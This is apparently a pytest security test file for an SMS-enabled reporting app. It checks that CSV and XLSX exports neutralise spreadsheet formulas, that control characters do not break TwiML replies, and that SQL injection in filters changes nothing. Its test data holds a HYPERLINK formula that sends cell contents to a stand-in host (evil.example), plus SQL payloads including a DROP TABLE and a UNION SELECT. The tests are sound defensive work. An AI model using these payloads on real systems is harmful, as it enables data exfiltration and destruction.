"""Threat: injection — spreadsheet formulas in exports (hole 6), invalid XML in SMS replies (hole 11), SQL."""
from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
import pytest

from tests.support.api_helpers import as_
from tests.support.sms_fixtures import sms_world
from sms.providers.twilio.standin import inbound_params, signed_post

pytestmark = pytest.mark.both_databases  # SQL injection attempts meet each database's own parser

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1"]


def _report_with_community_named(client, world, name: str) -> int:
    admin = as_(client, world, "admin")
    assert admin.patch(f"/areas/{world.ids['c1']}", {"name": name}).status_code == 200
    response = admin.post("/reports/weekly", {"area_id": world.ids["subdistrict"]})
    assert response.status_code == 201, response.get_json()
    return response.get_json()["id"]


@pytest.mark.parametrize("formula", FORMULAS[:3])
def test_csv_cells_never_start_a_formula(app, client, world, formula):
    report_id = _report_with_community_named(client, world, formula)
    text = as_(client, world, "admin").client.get(f"/api/v1/reports/weekly/{report_id}.csv",
                                                  headers=as_(client, world, "admin").headers).get_data(as_text=True)
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    assert "'" + formula in cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells)
    assert not any(cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit() for cell in cells)


def test_xlsx_cells_are_text_never_formulas(app, client, world):
    from openpyxl import load_workbook
    report_id = _report_with_community_named(client, world, FORMULAS[0])
    admin = as_(client, world, "admin")
    data = admin.client.get(f"/api/v1/reports/weekly/{report_id}.xlsx", headers=admin.headers).get_data()
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    assert "'" + FORMULAS[0] in [c.value for c in cells]


def test_control_characters_never_break_the_twiml(console_app):
    """Hole 11: control characters echoed in an SMS reply made the TwiML invalid XML: the sender got nothing."""
    sms_world(console_app)
    client = console_app.test_client()
    for i, body in enumerate(["巡查 HD\x0303-9\x01 正常", "F HD\x1b03 5 J 烟\x08花", "查询 \x0c100001\x07",
                              "\x00\x02\x1f"]):
        response = signed_post(client, "/sms/twilio/inbound", inbound_params("+8617000000007", body, sid=f"SMxml{i}"))
        assert response.status_code == 200
        root = ET.fromstring(response.data)  # raises on invalid XML
        texts = [m.text or "" for m in root.iter("Message")]
        assert texts and all(t.strip() for t in texts), response.data


@pytest.mark.parametrize("payload", ["' OR '1'='1", "1; DROP TABLE members; --", "HD03-1' UNION SELECT 1--"])
def test_sql_injection_in_filters_changes_nothing(app, client, world, payload):
    admin = as_(client, world, "admin")
    for path, query in [("/incidents", {"ticket": payload}), ("/members", {"name": payload}),
                        ("/areas", {"q": payload}), ("/incidents", {"within": payload})]:
        response = admin.get(path, query)
        assert response.status_code in (200, 422), (path, response.get_json())
    assert admin.get("/members").get_json()["total"] == 8
